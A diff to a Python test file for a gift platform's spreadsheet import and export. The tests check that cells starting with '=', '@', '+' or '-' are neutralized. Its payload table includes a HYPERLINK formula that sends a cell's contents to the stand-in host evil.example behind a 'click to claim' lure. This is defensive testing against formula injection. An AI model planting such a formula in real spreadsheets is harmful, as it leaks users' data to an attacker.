@@ -7,13 +7,12 @@ from io import BytesIO
 
 import openpyxl
 import pytest
-import xlsxwriter
 
 from giftplatform.sheets.writer import FORMULA_TRIGGERS, neutralize, write_workbook
 from gifts.imports import import_preview
 from gifts.imports.sheets_out import write_error_sheet
 from gifts.models import Gift, ImportStatus
-from tests.imports.sheets import GIFT_HEADERS, gift_row, table, write_csv
+from tests.imports.sheets import GIFT_HEADERS, gift_row, table, write_csv, write_xlsx_as_excel
 
 PAYLOADS = {
     "=": '=HYPERLINK("http://evil.example/?x="&A1,"点我领取")',
@@ -90,17 +89,6 @@ def test_write_workbook_to_a_file_path(tmp_path):
     assert values == ["'+1", "'-1", "'@x", "'\tx", "'\rx", "'=x"]
 
 
-def _xlsx_with_text_cells(path, rows):
-    """An .xlsx whose every cell is a text cell (openpyxl would turn '=...' into a formula)."""
-    workbook = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
-    sheet = workbook.add_worksheet()
-    for r, values in enumerate(rows):
-        for c, value in enumerate(values):
-            sheet.write_string(r, c, str(value))
-    workbook.close()
-    return path
-
-
 @pytest.mark.usefixtures("catalog")
 @pytest.mark.parametrize("fmt", ["xlsx", "csv"])
 def test_formula_text_is_imported_as_plain_text(run, tmp_path, fmt):
@@ -110,7 +98,7 @@ def test_formula_text_is_imported_as_plain_text(run, tmp_path, fmt):
     ]
     data = table(GIFT_HEADERS, rows)
     path = (
-        _xlsx_with_text_cells(tmp_path / "g.xlsx", data)
+        write_xlsx_as_excel(tmp_path / "g.xlsx", data)
         if fmt == "xlsx"
         else write_csv(tmp_path / "g.csv", data)
     )
@@ -129,7 +117,7 @@ def test_error_sheet_written_back_neutralizes_the_users_cells(tmp_path, superuse
         gift_row("G0001", 礼品名称=PAYLOADS["="]),
         gift_row("G0002", 礼品名称="@SUM(A1)", 面值="-1"),
     ]
-    path = _xlsx_with_text_cells(tmp_path / "g.xlsx", table(GIFT_HEADERS, rows))
+    path = write_xlsx_as_excel(tmp_path / "g.xlsx", table(GIFT_HEADERS, rows))
     job = import_preview(actor=superuser, kind="gifts", path=path, file_name="g.xlsx")
     assert job.status == ImportStatus.REJECTED
     buffer = BytesIO()
